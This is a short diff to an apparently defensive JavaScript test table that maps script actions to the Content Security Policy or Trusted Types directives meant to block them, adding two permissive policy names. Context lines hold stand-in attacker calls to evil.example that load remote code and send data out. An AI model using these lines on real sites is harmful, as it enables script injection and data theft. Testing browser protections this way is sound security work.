@@ -14,6 +14,8 @@ const attempts = {
   "eval('1')": 'require-trusted-types-for',
   "new Function('return 1')": 'require-trusted-types-for',
   "trustedTypes.createPolicy('evil', { createHTML: (html) => html })": 'trusted-types',
+  "trustedTypes.createPolicy('default', { createHTML: (html) => html })": 'trusted-types',
+  "trustedTypes.createPolicy('dompurify', { createHTML: (html) => html })": 'trusted-types',
   "import('https://evil.example/x.js')": 'script-src-elem',
   "fetch('https://evil.example/take?it')": 'connect-src',
   "Object.assign(new Image(), { src: 'https://evil.example/take.png' }).decode()": 'img-src',
